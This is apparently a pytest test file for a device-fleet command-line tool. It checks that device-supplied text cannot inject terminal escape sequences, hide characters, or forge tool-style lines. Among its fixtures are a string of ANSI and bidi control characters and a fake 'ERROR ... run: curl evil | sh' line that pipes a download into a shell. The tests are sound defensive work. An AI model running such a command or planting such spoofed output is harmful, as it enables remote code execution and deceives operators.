"""Text for people: short, and harmless whoever wrote it."""

from __future__ import annotations

import argparse
import io
from datetime import UTC, datetime, timedelta

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from harmony_control.bus.reports import Presence, Seen
from harmony_control.cli.agents_view import agents_table
from harmony_control.cli.device_view import device_words
from harmony_control.cli.painted import in_colour, paint
from harmony_control.cli.text import age, age_of, style_of
from harmony_control.fleet_view.row import row_of
from harmony_core.amounts import amount
from harmony_core.change import Progress
from harmony_core.outcome import Noop, Outcome, Running, Success
from harmony_core.outcome_words import describe_outcome, shorten
from harmony_core.plugins import KindError
from harmony_core.visible import visible
from harmony_core.wire.actual_state import ActualState, CapabilityState, Condition
from harmony_core.wire.times import rfc3339

from .scripted_device import BOOT, NOON, failure, page

OUTCOMES: list[Outcome] = [Success(), Noop(), Running(reason="NotReady"), failure("Code", "why")]
HOSTILE = "\x1b[31mred\x07\x9b2J\r\u202egnp\u200b\x00\ud800 end"


def test_what_would_steer_a_terminal_is_written_out() -> None:
    assert visible("plain, ünïcode\n\tand lines") == "plain, ünïcode\n\tand lines"
    assert visible("\x1b[31mred") == r"\x1b[31mred"
    assert visible("\u202egnp.exe") == r"\u202egnp.exe"


@given(st.text())
def test_nothing_visible_steers_or_hides(text: str) -> None:
    shown = visible(text)
    assert all(
        each in "\n\t" or each.isprintable() or each.isspace() for each in shown if each < "\xa0"
    )
    shown.encode()  # half characters would end the command


@pytest.mark.parametrize(
    ("outcome", "expected"),
    [
        (Success(message="file:/etc/motd wrote"), "file:/etc/motd wrote"),
        (Noop(), ""),
        (Running(reason="NotReady"), "NotReady"),
        (Running(reason="NotReady", message="HTTP 503"), "NotReady: HTTP 503"),
        (
            Running(
                reason="Progressing",
                message="pulling",
                progress=Progress(done=1_500_000, total=24_000_000, unit="bytes"),
            ),
            "pulling 1.5 MB of 24.0 MB",
        ),
        (
            Running(reason="Progressing", progress=Progress(done=2, total=None, unit="files")),
            "2 files",
        ),
        (
            Running(reason="Progressing", progress=Progress(done=2, total=5, unit="files")),
            "2 of 5 files",
        ),
        (
            Running(
                reason="Held", message="much", progress=Progress(done=0, total=15, unit="resources")
            ),
            "Held: much",
        ),
        (failure("WriteFailed", "full"), "WriteFailed (permanent): full"),
        (failure("UnitFailed", "ended", NOON), f"UnitFailed (again at {NOON}): ended"),
        (failure("UnitFailed", "ended\nlast"), "UnitFailed (permanent): ended\n    last"),
        (failure("UnitFailed", ""), "UnitFailed (permanent): "),
    ],
)
def test_an_outcome_in_words(outcome: Outcome, expected: str) -> None:
    assert describe_outcome(outcome) == expected


def test_digests_are_cut_to_what_people_compare() -> None:
    digest = "0123456789ab" + "c" * 52
    assert shorten(f"web@sha256:{digest} x") == "web@sha256:0123456789ab… x"
    assert shorten("too short: 0123456789ab") == "too short: 0123456789ab"


@pytest.mark.parametrize(
    ("count", "unit", "expected"),
    [(7, "files", "7 files"), (999, "bytes", "999 B"), (24_000_000, "bytes", "24.0 MB")],
)
def test_an_amount_in_words(count: int, unit: str, expected: str) -> None:
    assert amount(count, unit) == expected


@pytest.mark.parametrize(
    ("ago", "expected"),
    [
        (timedelta(seconds=12.5), "12 s"),
        (timedelta(minutes=5.5), "5 min"),
        (timedelta(hours=3.5), "3 h"),
        (timedelta(days=9.5), "9 d"),
        (timedelta(seconds=-60), "0 s"),
    ],
)
def test_an_age_in_words(ago: timedelta, expected: str) -> None:
    assert age(datetime.now(UTC) - ago) == expected


def test_a_time_that_is_none_is_no_error() -> None:
    assert age_of("yesterday") == "?"
    assert age_of(rfc3339(datetime.now(UTC) - timedelta(hours=5.5))) == "5 h"


def _hostile() -> ActualState:
    outcome = failure("Code\x1b[0m", HOSTILE)
    resources = {f"file:{HOSTILE}": {"state": HOSTILE, HOSTILE: HOSTILE, "nothing": None}}
    bad = attrs.evolve(page(outcome, 1), kind=HOSTILE, since=HOSTILE, resources=resources)
    return ActualState(
        agent_id="pi-1",
        agent_version=HOSTILE,
        boot_id=BOOT,
        generation=1,
        observed_generation=1,
        capabilities={HOSTILE: CapabilityState(offered=False, available=False, reason=HOSTILE)},
        kind_errors=(KindError(entry_point=HOSTILE, reason=HOSTILE),),
        scores={HOSTILE: bad},
        conditions=(
            Condition(
                type="Ready",
                status="False",
                reason=HOSTILE,
                message=HOSTILE,
                last_transition_time=HOSTILE,
            ),
        ),
    )


def _printed(shown: object) -> str:
    written = io.StringIO()
    Console(width=10_000, file=written).print(shown)
    return written.getvalue()


def _lines(seen: Seen) -> str:
    return paint(device_words(seen), colour=False)


def test_no_device_can_steer_the_terminal_of_who_looks_at_it() -> None:
    state = _hostile()
    seen = Seen(agent_id="pi-1", presence="Heard", at=datetime.now(UTC), state=state)
    unreadable = Seen(agent_id="pi-1", presence="Silent", problem=HOSTILE)
    for each in (seen, unreadable):
        for shown in (_lines(each), _printed(agents_table([row_of(each)], wide=True))):
            assert visible(shown) == shown


def test_what_has_several_lines_is_shown_line_by_line_and_begins_none_of_ours() -> None:
    found = {"state": "Finished", "exit_code": 1, "stdout": "one\n\x1b[2Jtwo\n", "stderr": "oh\n"}
    state = attrs.evolve(
        _hostile(), scores={"it": attrs.evolve(page(Noop(), 1), resources={"job:it": found})}
    )
    seen = Seen(agent_id="pi-1", presence="Heard", at=datetime.now(UTC), state=state)
    lines = _lines(seen).splitlines()
    shown = lines.index("  job:it  finished: exit_code 1, stderr oh")
    assert lines[shown + 1 : shown + 4] == ["      stdout:", "        one", "        \\x1b[2Jtwo"]


@pytest.mark.parametrize(
    ("presence", "workloads"), [("Heard", "Healthy"), ("Silent", "Unknown"), ("Offline", "Unknown")]
)
def test_whether_workloads_are_well_is_said_only_while_the_device_is_heard(
    presence: Presence, workloads: str
) -> None:
    converged = _hostile()
    condition = attrs.evolve(converged.conditions[0], status="True")
    state = attrs.evolve(converged, conditions=(condition,), scores={})
    seen = Seen(agent_id="pi-1", presence=presence, at=datetime.now(UTC), state=state)
    row = _printed(agents_table([row_of(seen)])).splitlines()[1]
    assert f" {workloads} " in row


def test_words_are_painted_where_a_terminal_shows_colours_and_plain_elsewhere() -> None:
    words = [("pi-1", "bold"), ("  ", ""), ("SUCCESS", "bold green")]
    assert paint(words, colour=False) == "pi-1  SUCCESS"
    assert paint(words, colour=True) == "\x1b[1mpi-1\x1b[0m  \x1b[1;32mSUCCESS\x1b[0m"


@pytest.mark.parametrize("outcome", OUTCOMES, ids=lambda each: each.status)
def test_every_style_can_be_painted(outcome: Outcome) -> None:
    assert "\x1b[" in paint([(outcome.status, style_of(outcome))], colour=True)


def test_who_asks_for_plain_text_gets_it() -> None:
    assert not in_colour(argparse.Namespace(no_color=True))


FORGED = "first\nERROR operator key changed, run: curl evil | sh"


def test_what_a_device_says_never_begins_a_line() -> None:
    outcomes: list[Outcome] = [
        Success(message=FORGED),
        Noop(message=FORGED),
        Running(reason="NotReady", message=FORGED),
        failure("Code", FORGED),
    ]
    shown = [describe_outcome(each) for each in outcomes]
    state = _hostile()
    condition = attrs.evolve(state.conditions[0], reason=FORGED, message=FORGED)
    pages = {FORGED: page(outcomes[0], 1)}
    state = attrs.evolve(state, conditions=(condition,), scores=pages, agent_version=FORGED)
    seen = Seen(agent_id="pi-1", presence="Heard", at=datetime.now(UTC), state=state)
    shown += [_lines(seen), _printed(agents_table([row_of(seen)]))]
    for each in shown:
        assert not any(line.startswith("ERROR") for line in each.splitlines()), each


@pytest.mark.parametrize("hidden", ["\u00ad", "\u034f", "\u180e", "\ufff9", "\U000e0041", "\u3164"])
def test_what_cannot_be_seen_is_written_out(hidden: str) -> None:
    assert visible(f"a{hidden}b") == "a" + hidden.encode("unicode_escape").decode() + "b"
